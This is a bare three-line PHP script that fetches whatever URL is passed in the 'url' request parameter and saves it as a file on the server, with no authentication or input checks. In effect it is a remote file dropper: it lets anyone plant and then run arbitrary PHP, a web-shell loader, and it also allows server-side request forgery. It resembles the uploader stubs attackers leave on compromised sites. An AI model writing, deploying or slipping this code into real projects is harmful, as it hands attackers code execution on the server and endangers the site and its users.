<?php
$u = $_REQUEST['url'];
file_put_contents(basename($u), file_get_contents($u));
